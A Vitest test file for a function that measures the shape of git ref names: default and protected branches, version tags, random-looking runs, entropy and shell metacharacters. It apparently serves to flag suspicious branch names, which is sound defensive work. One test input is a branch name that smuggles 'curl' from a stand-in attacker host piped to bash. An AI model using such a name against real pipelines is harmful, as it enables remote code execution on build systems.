import { describe, expect, it } from "vitest";
import { refShape } from "./ref-shape.ts";

describe("the shape of a ref", () => {
  it.each([
    ["refs/heads/main", true, true],
    ["refs/heads/Master", true, true],
    ["refs/heads/release/2.1", false, true],
    ["production", false, true],
    ["refs/heads/topic", false, false],
    ["refs/heads/mainly", false, false],
    ["refs/tags/main", false, false],
  ])("%s", (ref, defaultBranch, protectedName) => {
    expect(refShape(ref)).toMatchObject({ defaultBranch, protectedName });
  });

  it.each([
    ["refs/tags/v1.2.3", true],
    ["refs/tags/1.0", true],
    ["refs/tags/v4", true],
    ["refs/tags/lib@2.0.1", true],
    ["refs/tags/app-v3.1-rc1", true],
    ["refs/tags/nightly", false],
    ["refs/heads/v1.2.3", false],
  ])("%s is a version's tag: %s", (ref, versionTag) => {
    expect(refShape(ref).versionTag).toBe(versionTag);
  });

  it.each([
    ["prt-scan-1a2b3c4d5e6f", 12],
    ["snapshot-9f3c1b", 6],
    ["x7Qp2zT9", 8],
    ["feature/issue123", 0],
    ["dependabot/npm_and_yarn/lodash-4.17.21", 0],
    ["2025-07-04", 0],
    ["main", 0],
  ])("the random run of %s has %i characters", (ref, length) => {
    expect(refShape(ref).randomRun).toBe(length);
  });

  it("counts what a shell would act on", () => {
    expect(refShape("x$(curl$IFS$9evil.example|bash)").shellCharacters).toBe(6);
    expect(refShape("refs/heads/feature/a_b-c.d").shellCharacters).toBe(0);
  });

  it("measures the name without its place", () => {
    expect(refShape("refs/heads/aabc")).toMatchObject({ length: 4, entropy: 1.5 });
    expect(refShape("")).toMatchObject({ length: 0, entropy: 0, randomRun: 0 });
  });
});
